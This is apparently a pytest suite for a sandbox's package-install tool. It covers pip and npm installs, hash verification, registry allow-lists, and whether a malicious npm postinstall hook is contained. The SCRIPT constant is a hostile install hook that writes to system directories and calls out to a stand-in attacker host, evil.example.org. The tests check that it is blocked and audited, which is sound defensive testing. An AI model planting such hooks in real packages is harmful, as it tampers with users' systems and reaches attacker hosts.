"""code_install_package with the real pip and npm: from the registries that this host's clients use, and from small ones that lie."""
import json
import os

import pytest

from helpers import requirement
from helpers.daemon import Daemon
from helpers.mcp import Client
from helpers.registries import CERTIFICATES, INDEX, addresses, publish_npm, publish_wheel
from helpers.runner import wait_for

pytestmark = requirement("R62", "R66")
# registry: its package, the sandbox's way to say that it is there
PACKAGES = {
    "pypi": ("peppercorn==0.6", "python", "import peppercorn; print(peppercorn.__name__)", "peppercorn\n"),
    "npm": ("is-number@7.0.0", "javascript", "console.log(require('is-number')(7))", "true\n"),
}


@pytest.mark.parametrize("registry", PACKAGES)
def test_it_installs(cloche, has, registry):
    has(*(("pip3",) if registry == "pypi" else ("npm", "node")))
    package, language, code, printed = PACKAGES[registry]
    cloche.env |= CERTIFICATES
    # a quarter of the daemon's usual processor time would do, but not on a busy machine
    cpus = {"cpus": 2} if os.geteuid() == 0 else {}
    policy = {"env": CERTIFICATES, "limits": {"memory": "1g", "disk": "1g", **cpus},
              "network": {"registries": [registry], "allow": addresses(cloche, registry)}}
    daemon = Daemon(cloche)
    try:
        box = daemon.create(policy=policy)
        client = Client(daemon)
        before = client.call("code_execute", language=language, code=code, sandbox_id=box.id, timeout=300)
        assert not before["success"], before
        result = client.call("code_install_package", sandbox_id=box.id, package=package, registry=registry)
        assert result["success"] and (result["package"], result["registry"]) == (package, registry), result
        after = client.call("code_execute", language=language, code=code, sandbox_id=box.id, timeout=300)
        assert after["success"] and after["stdout"] == printed, after
        absent = package.replace("0.6", "99.0").replace("7.0.0", "99.0.0")
        none = client.call("code_install_package", sandbox_id=box.id, package=absent, registry=registry)
        assert not none["success"] and none["error"] == "PackageNotFound", none
        assert box.show()["state"] == "ready"
    finally:
        assert daemon.stop() == 0, daemon.log


# --- own registries ---------------------------------------------------------------------------------------------------

# What is done while it is installed. It fails where a wall is missing, and says what it could do.
SCRIPT = """
const fs = require('fs'), net = require('net'), could = [];
for (const place of ['/etc/pwned', '/usr/lib/pwned', '/opt/pwned', '/pwned', '/usr/bin/pwned'])
    try { fs.writeFileSync(place, 'x'); could.push(place); } catch (e) { }
fs.writeFileSync('/workspace/tried', 'x');
require('http').get('http://evil.example.org/pwned', r => {
    if (r.statusCode == 200) could.push('evil');
    console.error('status ' + r.statusCode);
    fs.writeFileSync('/workspace/could', JSON.stringify(could));
    process.exit(1);
}).on('error', e => { fs.writeFileSync('/workspace/could', JSON.stringify(could)); process.exit(1); });
"""


class Registry:
    """A daemon whose clients are set up for small registries of ours."""

    def __init__(self, online):
        for name in ("six", "mine"):
            publish_wheel(online.net, name)
        publish_npm(online.net, "is-number")
        (online.bare.home / ".npmrc").write_text(f"registry=http://{INDEX}/npm/\n", encoding="utf-8")
        online.cloche.env |= {"PIP_INDEX_URL": f"http://{INDEX}/simple/", "PIP_TRUSTED_HOST": "ok.example.org second.example.org"}
        self.net, self.daemon = online.net, Daemon(online.cloche, path=online.bare.state / "cloche" / "serve" / "api.sock")
        self.client = Client(self.daemon)

    def box(self, language="python", **network):
        """As code_execute makes it."""
        made = self.client.call("create_sandbox", language=language, network_enabled=True, **network)
        assert made["success"], made
        return made["sandbox_id"]

    def install(self, box, package, registry="pypi", **more):
        return self.client.call("code_install_package", sandbox_id=box, package=package, registry=registry, **more)

    def run(self, box, language, code):
        return self.client.call("code_execute", sandbox_id=box, language=language, code=code, timeout=300)


@pytest.fixture
def own(online, has):
    has("npm", "node", "pip3")
    made = Registry(online)
    yield made
    assert made.daemon.stop() == 0, made.daemon.log


@pytest.mark.root
def test_hashes_of_pypi_and_a_registry_that_is_closed(own):
    box, hash_ = own.box(), publish_wheel(own.net, "mine")
    wrong = own.install(box, "mine==1.0", hashes=[f"sha256:{'0' * 64}"])
    assert not wrong["success"] and wrong["error"] == "HashMismatch", wrong
    assert own.run(box, "python", "import mine")["exit_code"] == 1
    loose = own.install(box, "mine", hashes=[hash_])
    assert loose["error_type"] == "InvalidArguments", loose
    right = own.install(box, "mine==1.0", hashes=[f"sha256:{'0' * 64}", hash_])
    assert right["success"], right
    assert own.run(box, "python", "import mine; print(mine.answer)")["stdout"] == "42\n"
    own.net.requests.clear()
    refused = own.install(own.box(allowed_domains=["third.example.org"]), "mine")
    assert not refused["success"] and refused["error"] == "RegistryNotAllowed", refused
    assert not own.net.requests


@pytest.mark.root
def test_hashes_of_npm(own):
    """Nothing of another archive runs."""
    box, hash_ = own.box("javascript"), publish_npm(own.net, "mine", scripts={"postinstall": "touch /workspace/ran"})
    wrong = own.install(box, "mine@1.0.0", "npm", hashes=[f"sha512-{'A' * 86}=="])
    assert not wrong["success"] and wrong["error"] == "HashMismatch", wrong
    assert "ran" not in own.run(box, "shell", "ls; ls node_modules")["stdout"].split()
    right = own.install(box, "mine@1.0.0", "npm", hashes=[hash_])
    assert right["success"], right
    assert own.run(box, "javascript", "console.log(require('mine'))")["stdout"] == "42\n"
    assert "ran" in own.run(box, "shell", "ls")["stdout"].split()


@pytest.mark.root
@requirement("R68")
def test_an_install_that_reaches_out(own):
    """Another host is refused and in the audit record; nothing is written but where the sandbox may write."""
    publish_npm(own.net, "mine", scripts={"postinstall": f"node -e {json.dumps(SCRIPT.replace(chr(10), ' '))}"})
    box = own.box("javascript")
    failed = own.install(box, "mine", "npm")
    assert not failed["success"] and failed["error"] == "InstallFailed", failed
    left = own.run(box, "shell", "cat could; ls /workspace")
    assert left["stdout"].startswith("[]") and "tried" in left["stdout"], left
    assert "evil.example.org" not in own.net.asked()

    def refused():
        found = own.daemon.get(f"/v1/audit?sandbox={box}").json["entries"]
        return [e for e in found if "evil.example.org" in json.dumps(e)]
    assert wait_for(refused, 60)
    assert "deny" in json.dumps(refused()), refused()
